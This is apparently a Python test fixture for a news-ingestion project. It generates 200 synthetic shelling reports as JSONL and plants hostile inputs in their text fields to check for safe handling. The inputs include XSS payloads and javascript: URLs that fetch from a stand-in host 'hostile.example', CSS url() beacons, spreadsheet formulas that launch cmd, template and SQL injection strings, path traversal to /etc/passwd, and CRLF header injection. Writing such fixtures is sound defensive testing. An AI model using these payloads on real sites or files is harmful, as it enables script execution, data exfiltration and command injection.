"""Two hundred reports that want to be more than text: each tells of an incident, and of something else.

`documents()` gives them as records of JSONL, the same ones every time. What gets to work anywhere shows itself: it
opens a dialog, sets `window.hostile`, makes an element with the attribute `data-hostile`, asks for something at `EVIL`,
or writes 49 for 7 times 7 beside MARK.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from pathlib import Path

from dateline.run import open_sources, read_into
from dateline.run.fuse import fuse_store
from dateline.store import Store

EVIL = "http://hostile.example"
MARK = "hostilemark"
_RUN = f"alert('hostile');window.hostile=1;fetch('{EVIL}/x')"
_PLACES = ("Harasta", "Aleppo", "Raqqa", "Kramatorsk", "Khartoum", "Deir ez-Zor", "Idlib", "Nyala")
_SEED = 7

Record = dict[str, object]
#: What a class of documents makes of a number: payloads for the name of a source, and for title, outlet, url and id.
Payload = Callable[[int, random.Random], dict[str, str]]


def _of(*payloads: str) -> Payload:
    """Each in turn, in every field that is text."""

    def make(number: int, _: random.Random) -> dict[str, str]:
        told = payloads[number % len(payloads)]
        return {"name": told, "title": f"{told} shelling", "outlet": f"Gazette {told}"}

    return make


_script = _of(
    f"<script data-hostile>{_RUN}</script>",
    f'<img data-hostile src=x onerror="{_RUN}">',
    f'"><b data-hostile onmouseover="{_RUN}">b</b>',
    f"</title></textarea></style></script><script data-hostile>{_RUN}</script>",
    f'<iframe data-hostile srcdoc="<script>{_RUN}</script>"></iframe>',
    f"<details data-hostile open ontoggle={_RUN}>",
    f'<form data-hostile action="{EVIL}"><button autofocus onfocus={_RUN}>go</button></form>',
    f'<base data-hostile href="{EVIL}/"><meta http-equiv=refresh content="0;url={EVIL}">',
    f"<object data-hostile data={EVIL}></object><embed src={EVIL}>",
    f"<video data-hostile autoplay onloadstart={_RUN} src={EVIL}/v></video>",
)
_svg = _of(
    f"<svg data-hostile onload={_RUN}></svg>",
    f'<svg><animate data-hostile onbegin="{_RUN}" attributeName=x dur=1s>',
    f"<svg><foreignObject data-hostile><script>{_RUN}</script></foreignObject></svg>",
    f'<math data-hostile><mtext><img src=x onerror="{_RUN}"></mtext></math>',
    f'<svg><use data-hostile href="{EVIL}/s.svg#x"/></svg>',
)
_css = _of(
    f"<style data-hostile>@import '{EVIL}/c.css'; body{{display:none}}</style>",
    f'<p data-hostile style="background:url({EVIL}/b)">p</p>',
    f"</style><link data-hostile rel=stylesheet href={EVIL}/c.css>",
    f"x;background:url({EVIL}/b)",
    f'x"]{{}}*{{background:url({EVIL}/c)}}',
)
_bidi = _of(
    "\u202edetnuof eb ton\u202c",
    "Amira\u200b\u200d\u2060Saleh",
    "\u2066\u2067al-Masri\u2069\u2069",
    "\u202a\u202b\u202c\u202d\u202e" * 20,
    "\ufeffОmar\u00ad Ѕаid",
    "Z\u0300\u0301\u0302\u0303\u0304" * 30,
    "\u202egnp.exe",
)
_controls = _of(
    "Omar\x00 Said",
    "Omar\x1b[31mSaid\x1b]0;hostile\x07",
    "\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f",
    "Omar\r\nSet-Cookie: hostile=1\r\n\r\n<b data-hostile>",
    "\x7f\x80\x85\u2028\u2029",
)
_formula = _of(
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    f'=HYPERLINK("{EVIL}","open")',
    "+1+1|cmd",
    "-2+3+cmd|'/C calc'!A0",
    f'=IMPORTXML(CONCAT("{EVIL}/",A1),"//a")',
    "\t=1+1",
    "\uff1d1+1",
)
_template = _of(
    f"{MARK}{{{{7*7}}}}",
    f"{MARK}${{7*7}}",
    f"{MARK}<%= 7*7 %>",
    f"{MARK}#{{7*7}}",
    f"{MARK}{{%print(7*7)%}}",
    "%s%s%s%n%x {0} {0.__class__} %(password)s",
    "{{constructor.constructor('alert(1)')()}}",
)
_words = _of("x" * 5000, "ا" * 3000, "W" * 300 + "-" + "W" * 300, "𝕏" * 2000, "a\u0301" * 2000)
_unicode = _of(
    "\ufffe\uffff\U0010ffff",
    '\\u0022,"role":"admin","x":"\\',
    "]]>--></script><!--",
    '{"$gt":""}',
    "' OR 1=1; DROP TABLE audit; --",
    "\ud7ff\ue000🏴󠁧󠁢󠁥󠁮󠁧󠁿",
)
_prototype = _of("__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "valueOf")


def _urls(number: int, _: random.Random) -> dict[str, str]:
    told = (
        f"javascript:{_RUN}",
        f"JaVaScRiPt:{_RUN}",
        f"java\tscript:{_RUN}",
        f" javascript:{_RUN}",
        f"data:text/html,<script data-hostile>{_RUN}</script>",
        f"vbscript:{_RUN}",
        f"//hostile.example/{number}",
        f'https://a.example/"onclick="{_RUN}',
        "file:///etc/passwd",
        f"https://user:pass@hostile.example:80/{number}?q=<script>",
    )[number % 10]
    return {"name": "residents", "title": told, "outlet": told, "url": told}


def _paths(number: int, _: random.Random) -> dict[str, str]:
    told = (
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "%2e%2e%2fetc%2fpasswd",
        "a/../../b",
        "con",
        "a?b=c#d",
        "a;b&c",
        "%00",
        ".",
        "..",
        "a b/c d",
        "<id data-hostile>",
        "é/ü",
        "x" * 400,
    )[number % 15]
    return {"name": told, "title": told, "id": told if number < 15 else f"{told}{number}"}


def _numbers(number: int, dice: random.Random) -> dict[str, str]:
    count = (
        "9" * 400,
        "1e308",
        "0x7fffffff",
        "999,999,999,999,999",
        "-5",
        "NaN",
        "Infinity",
        "2147483648",
        "٤٥",
        "１２",
    )
    return {"name": "residents", "killed": count[number % 10], "title": f"{count[number % 10]} dead in {dice.random()}"}


def _nested(number: int, _: random.Random) -> dict[str, str]:
    tag = ("div", "b", "table", "a href=x", "svg")[number % 5]
    return {"name": "residents", "html": f"<{tag}>" * 10_000 + "<p>{sentence}</p>"}


#: Each class, and how many documents are of it.
CLASSES: dict[str, tuple[Payload, int]] = {
    "script": (_script, 30),
    "svg": (_svg, 15),
    "css": (_css, 15),
    "urls": (_urls, 20),
    "bidi": (_bidi, 21),
    "paths": (_paths, 15),
    "controls": (_controls, 15),
    "words": (_words, 10),
    "formulas": (_formula, 16),
    "templates": (_template, 14),
    "unicode": (_unicode, 12),
    "prototype": (_prototype, 6),
    "numbers": (_numbers, 6),
    "nested": (_nested, 5),
}


def documents() -> Iterator[Record]:
    """The records, in the order of their classes."""
    dice = random.Random(_SEED)
    for kind, (payload, count) in CLASSES.items():
        for number in range(count):
            yield _record(kind, number, payload(number, dice), dice)


def _record(kind: str, number: int, told: dict[str, str], dice: random.Random) -> Record:
    place, day = dice.choice(_PLACES), dice.randint(1, 28)
    killed = told.get("killed") or str(dice.randint(2, 60))
    sentence = (
        f"{place.upper()} – Army forces shelled a market in {place} on {day} April 2016, killing {killed} civilians, "
        f"{told['name']} said. {told['name']} captured {place} from the rebels a day later, local activist "
        f"Omar {told['name']} said."
    )
    record: Record = {
        "id": told.get("id", f"{kind}-{number}"),
        "title": told.get("title", f"Shelling in {place}"),
        "outlet": told.get("outlet", "Harbour Gazette"),
        "url": told.get("url", f"https://gazette.example/{kind}/{number}"),
        "published": "2016-05-02",
    }
    if "html" in told:
        return {**record, "html": told["html"].replace("{sentence}", sentence)}
    if number % 3 == 2 and kind in ("script", "svg", "css"):
        page = (
            f"<html><head><title>{told['title']}</title></head><body><article><p>{sentence}</p></article></body></html>"
        )
        return {**record, "html": page}
    return {**record, "text": sentence}


def make_store(folder: Path) -> Path:
    """A database of them all, read and fused."""
    (folder / "hostile.jsonl").write_bytes(b"".join(json.dumps(each).encode() + b"\n" for each in documents()))
    with Store.open(folder / "hostile.db") as store:
        read_into(store, open_sources([str(folder / "hostile.jsonl")]))
        fuse_store(store)
    return folder / "hostile.db"
